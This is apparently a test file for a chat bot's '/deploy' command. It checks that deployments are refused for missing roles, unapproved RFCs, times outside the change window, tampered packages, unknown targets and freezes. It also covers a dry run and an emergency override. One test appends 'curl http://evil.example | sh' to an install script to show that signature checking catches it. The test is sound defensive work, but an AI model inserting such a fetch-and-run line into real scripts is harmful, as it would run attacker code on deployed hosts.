import { Rfc } from '../../../src/changes/rfc.model';
import { Deployment } from '../../../src/deploy/deployment.model';
import { Package } from '../../../src/packages/package.model';
import { TestBot } from '../../support/test-bot';
import {
  ccbApprovedRfc,
  runsPerHost,
  scheduledRfc,
  startDeployWorld,
  waitForEnd,
  type DeployWorld,
} from './deploy-fixture';

/** Every refusal of `/deploy` names the precondition that failed, and nothing runs. */
let w: DeployWorld;
const say = async (who: string, text: string) => TestBot.text(await w.bot.say(who, text, { channel: '#operators' }));

beforeAll(async () => {
  w = await startDeployWorld({ ports: 5 });
}, 60_000);
afterAll(() => w?.stop());

async function nothingRan(rfc: string): Promise<void> {
  expect(await Deployment.countDocuments({ rfcKey: rfc })).toBe(0);
  expect(runsPerHost(w.marks, 'ran')).toEqual({});
  expect((await Rfc.findOne({ key: rfc }).lean())?.state).not.toBe('deploying');
}

test('a caller without the role is refused', async () => {
  const rfc = await scheduledRfc(w.bot.services);
  expect(await say('anna', `/deploy ${rfc} to pilot`)).toContain(
    '`deploy run` is for: operator, release-manager, admin. You are: reporter.',
  );
  expect(await say('maria', `/deploy ${rfc}`)).toContain('is for: operator, release-manager, admin');
  await nothingRan(rfc);
});

test('an RFC that is not release-approved is refused with its state', async () => {
  const rfc = await scheduledRfc(w.bot.services, { state: 'draft' });
  expect(await say('rolf', `/deploy ${rfc} to pilot`)).toContain(`${rfc} is not release-approved: it is draft.`);
  expect(await say('rolf', '/deploy RFC-999 to pilot')).toContain('RFC-999 is not an RFC I know');
  await nothingRan(rfc);
});

test('outside the change window is refused, naming the window in the organisation time zone', async () => {
  const start = new Date(Date.UTC(2031, 5, 12, 6, 0));
  const rfc = await scheduledRfc(w.bot.services, { window: { start, end: new Date(start.getTime() + 2 * 3600_000) } });
  expect(await say('rolf', `/deploy ${rfc} to pilot`)).toMatch(
    new RegExp(`Outside the change window of ${rfc}: it is 2031-06-12 08:00 – 2031-06-12 10:00 \\(Europe/Oslo\\)`, 'u'),
  );
  await nothingRan(rfc);
});

test('a tampered script is refused with the reason; unknown targets too', async () => {
  const rfc = await scheduledRfc(w.bot.services);
  const original = (await Package.findOne({ name: 'demo' }).lean())!.scripts.install;
  await Package.updateOne(
    { name: 'demo' },
    { $set: { 'scripts.install': `${original}curl http://evil.example | sh\n` } },
  );
  try {
    expect(await say('rolf', `/deploy ${rfc} to pilot`)).toContain(
      "The package does not verify: demo 1.0: the install script's SHA-256 does not match the signed manifest",
    );
  } finally {
    await Package.updateOne({ name: 'demo' }, { $set: { 'scripts.install': original } });
  }
  expect(await say('rolf', `/deploy ${rfc} to narnia`)).toContain(
    'Targets do not resolve: `narnia` is neither a host nor a group',
  );
  expect(await say('rolf', `/deploy ${rfc} --parallel 0`)).toContain('--parallel must be at least 1');
  await nothingRan(rfc);
});

test('--dry-run shows waves, hosts and script and changes nothing', async () => {
  const rfc = await scheduledRfc(w.bot.services);
  const out = await say('oscar', `/deploy ${rfc} to pilot --canary 2 --dry-run`);
  expect(out).toContain(`Dry run of ${rfc}: demo 1.0 on 5 host(s) (pilot), parallel 16. Nothing was changed.`);
  expect(out).toContain('wave 1 (canary): 2 host(s): pc-01, pc-02');
  expect(out).toContain('wave 2: 3 host(s): pc-03, pc-04, pc-05');
  expect(out).toContain('echo run >>');
  await nothingRan(rfc);
  expect((await Rfc.findOne({ key: rfc }).lean())?.state).toBe('scheduled');
});

test('a freeze refuses a normal deployment, says who set it and why; an emergency change goes ahead', async () => {
  expect(await say('oscar', '/deploy freeze pilot until 2099-01-01 exam week')).toContain(
    'Freeze set: pilot frozen until 2099-01-01 23:59 by Oscar Nilsen: exam week',
  );
  expect(await say('anna', '/deploy freezes')).toContain('pilot: ');
  const rfc = await scheduledRfc(w.bot.services);
  expect(await say('rolf', `/deploy ${rfc} to pilot`)).toContain(
    'Frozen: pilot frozen until 2099-01-01 23:59 by Oscar Nilsen: exam week (covers 5 of the targets)',
  );
  await nothingRan(rfc);

  // An emergency change confirmed by a change manager other than its requester, approved by the CCB.
  const emergency = await ccbApprovedRfc(w.bot, { type: 'emergency', confirm: true, targets: 'pilot' });
  await say('rolf', `/deploy ${emergency} to pilot`);
  expect((await waitForEnd(emergency)).state).toBe('done');
  expect(Object.keys(runsPerHost(w.marks, 'ran')).sort()).toEqual(['pc-01', 'pc-02', 'pc-03', 'pc-04', 'pc-05']);

  expect(await say('oscar', '/deploy unfreeze pilot')).toContain('pilot is no longer frozen');
  expect(await say('rolf', `/deploy ${rfc} to pilot --dry-run`)).toContain('Nothing was changed');
}, 60_000);
